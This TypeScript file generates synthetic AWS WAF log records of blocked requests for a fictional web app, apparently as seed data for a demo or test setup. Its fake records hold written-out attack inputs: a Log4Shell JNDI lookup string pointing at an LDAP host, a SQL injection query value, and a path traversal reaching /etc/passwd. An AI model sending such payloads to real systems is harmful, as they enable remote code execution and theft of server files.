/**
 * AWS WAF logs for the web ACL in front of the load balancer, filtered to blocked requests: one
 * JSON record per request (the group name must start with `aws-waf-logs-`).
 */
import type { SeedLogGroup } from '../types';
import { Random } from './random';
import { ACCOUNT_ID, type Scenario, add, arrivals, historyStart, logGroup, stream } from './scenario';

const RETENTION_DAYS = 30;
const ACL = 'tallybird-prod-web-acl';

/** [rule group, rule, uri, method, label] */
const BLOCKS = [
  ['AWSManagedRulesKnownBadInputsRuleSet', 'Log4JRCE_HEADER', '/', 'GET', 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header'],
  ['AWSManagedRulesCommonRuleSet', 'GenericLFI_QUERYARGUMENTS', '/api/v1/orders', 'GET', 'awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments'],
  ['AWSManagedRulesCommonRuleSet', 'SizeRestrictions_BODY', '/api/v1/orders', 'POST', 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body'],
  ['AWSManagedRulesSQLiRuleSet', 'SQLi_QUERYARGUMENTS', '/api/v1/orders', 'GET', 'awswaf:managed:aws:sql-database:SQLi_QueryArguments'],
  ['AWSManagedRulesAmazonIpReputationList', 'AWSManagedIPReputationList', '/wp-login.php', 'GET', 'awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList'],
  ['AWSManagedRulesAmazonIpReputationList', 'AWSManagedIPReputationList', '/.env', 'GET', 'awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList'],
] as const;
const COUNTRIES = ['NL', 'RU', 'CN', 'US', 'DE', 'SG', 'BR', 'VN', 'IN'];

export function wafLogGroup(s: Scenario): SeedLogGroup {
  const rng = new Random('waf');
  const st = stream(`us-east-1_${ACL}_0`);
  const aclId = rng.uuid();
  const albId = rng.hex(16);
  for (const t of arrivals(rng, historyStart(s, RETENTION_DAYS), s.now, () => 3)) {
    const rateLimited = rng.chance(0.15);
    const [group, rule, uri, method, label] = rateLimited
      ? ['', 'rate-limit-login', '/api/v1/auth/login', 'POST', 'awswaf:318264950271:webacl:tallybird-prod-web-acl:rule:rate-limit-login']
      : rng.pick(BLOCKS);
    const ip = `${rng.pick([45, 80, 89, 141, 185, 193, 194, 5])}.${rng.int(1, 254)}.${rng.int(1, 254)}.${rng.int(1, 254)}`;
    const args = rule.startsWith('SQLi') ? "status=open'%20OR%201%3D1--" : rule.startsWith('GenericLFI') ? 'export=..%2F..%2F..%2Fetc%2Fpasswd' : '';
    const agent = rule === 'Log4JRCE_HEADER' ? '${jndi:ldap://' + `${ip}:1389/a}` : rng.pick(['Mozilla/5.0', 'python-requests/2.31.0', 'curl/7.88.1', 'Go-http-client/1.1']);
    const record = {
      timestamp: t,
      formatVersion: 1,
      webaclId: `arn:aws:wafv2:us-east-1:${ACCOUNT_ID}:regional/webacl/${ACL}/${aclId}`,
      terminatingRuleId: rateLimited ? rule : group,
      terminatingRuleType: rateLimited ? 'RATE_BASED' : 'MANAGED_RULE_GROUP',
      action: 'BLOCK',
      terminatingRuleMatchDetails: [],
      httpSourceName: 'ALB',
      httpSourceId: `${ACCOUNT_ID}-app/tallybird-prod-alb/${albId}`,
      ruleGroupList: rateLimited ? [] : [{ ruleGroupId: `AWS#${group}`, terminatingRule: { ruleId: rule, action: 'BLOCK', ruleMatchDetails: null }, nonTerminatingMatchingRules: [], excludedRules: null, customerConfig: null }],
      rateBasedRuleList: rateLimited ? [{ rateBasedRuleId: `${aclId}/rate-limit-login`, rateBasedRuleName: 'rate-limit-login', limitKey: 'IP', maxRateAllowed: 100, evaluationWindowSec: '300' }] : [],
      nonTerminatingMatchingRules: [],
      requestHeadersInserted: null,
      responseCodeSent: null,
      httpRequest: {
        clientIp: ip,
        country: rng.pick(COUNTRIES),
        headers: [
          { name: 'Host', value: 'app.tallybird.io' },
          { name: 'User-Agent', value: agent },
          { name: 'Accept', value: '*/*' },
        ],
        uri,
        args,
        httpVersion: 'HTTP/1.1',
        httpMethod: method,
        requestId: `1-${Math.floor(t / 1000).toString(16)}-${rng.hex(24)}`,
      },
      labels: [{ name: label }],
    };
    add(st, t, JSON.stringify(record));
  }
  return logGroup(s, { name: `aws-waf-logs-${ACL}`, retentionInDays: RETENTION_DAYS, createdDaysAgo: 288 }, [st]);
}
